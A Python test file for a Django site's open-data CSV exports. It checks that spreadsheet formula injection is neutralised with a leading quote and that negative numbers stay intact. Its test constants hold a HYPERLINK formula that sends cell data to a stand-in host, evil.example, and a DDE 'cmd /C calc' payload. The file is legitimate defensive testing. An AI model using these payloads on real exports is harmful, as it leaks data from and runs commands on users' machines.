"""The site's public CSV downloads, on the shipped plan and data: hostile text is neutralised, numbers are not.

An officer-written contact role reaches /open-data/actions.csv; an imported note reaches
/indicators/<slug>.csv and /open-data/observations.csv. Each test edits the rows inside its own
transaction (rolled back afterwards).
"""

from __future__ import annotations

import csv
import io

import pytest
from frictionless import Package, validate

from onestockport.indicators.models import Indicator
from onestockport.indicators.verdicts import current_observations
from onestockport.opendata.package import build_package, clear_site_cache, write_package
from onestockport.plans.models import Action

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("published_plan")]

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def fresh_site_copy():
    """The open data package is cached by the site; each test sees it rebuilt from its own rows."""
    clear_site_cache()
    yield
    clear_site_cache()


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


@pytest.fixture
def hostile_action(published_plan) -> Action:
    action = Action.objects.filter(priority__plan=published_plan).order_by("pk").first()
    action.contact_role = HYPERLINK
    action.title = "-3.5"  # text that is a plain number is left as written
    action.save(update_fields=["contact_role", "title"])
    return action


@pytest.fixture
def hostile_observation(published_plan):
    indicator = Indicator.objects.filter(plan=published_plan, status=Indicator.Status.PUBLISHED).order_by("pk")[0]
    observation = current_observations(indicator).order_by("pk")[0]
    observation.note = NOTE
    observation.missing_reason = "-suppressed"
    observation.value = -3.5
    observation.save(update_fields=["note", "missing_reason", "value"])
    return observation


def test_open_data_actions_csv_neutralises_an_officers_formula(client, hostile_action):
    response = client.get("/open-data/actions.csv")
    assert response.status_code == 200
    action_id = f"{hostile_action.priority.slug}/{hostile_action.number}"
    row = next(row for row in _rows(response.content) if row["id"] == action_id)
    assert row["contact_role"] == "'" + HYPERLINK
    assert row["title"] == "-3.5"
    # The JSON twin carries the text exactly as written.
    json_row = next(row for row in client.get("/open-data/actions.json").json() if row["id"] == action_id)
    assert json_row["contact_role"] == HYPERLINK


def test_open_data_observations_csv_neutralises_a_note_and_keeps_a_negative_value(client, hostile_observation):
    response = client.get("/open-data/observations.csv")
    assert response.status_code == 200
    rows = [row for row in _rows(response.content) if row["note"].endswith(NOTE)]
    assert len(rows) == 1
    assert rows[0]["note"] == "'" + NOTE
    assert rows[0]["missing_reason"] == "'-suppressed"
    assert rows[0]["value"] == "-3.5"


def test_indicator_csv_neutralises_a_note_and_keeps_a_negative_value(client, hostile_observation):
    response = client.get(f"/indicators/{hostile_observation.indicator.slug}.csv")
    assert response.status_code == 200
    rows = [row for row in _rows(response.content) if row["note"].endswith(NOTE)]
    assert len(rows) == 1
    assert rows[0]["note"] == "'" + NOTE
    assert rows[0]["missing_reason"] == "'-suppressed"
    assert rows[0]["value"] == "-3.5"


def test_the_package_with_hostile_cells_still_validates(published_plan, hostile_action, hostile_observation, tmp_path):
    write_package(build_package(plan=published_plan), tmp_path)
    report = validate(tmp_path / "datapackage.json")
    assert report.valid, [(task.name, error.message) for task in report.tasks for error in task.errors][:10]
    package = Package(tmp_path / "datapackage.json")
    actions = {row["id"]: row for row in package.get_resource("actions").read_rows()}
    assert actions[f"{hostile_action.priority.slug}/{hostile_action.number}"]["contact_role"] == "'" + HYPERLINK
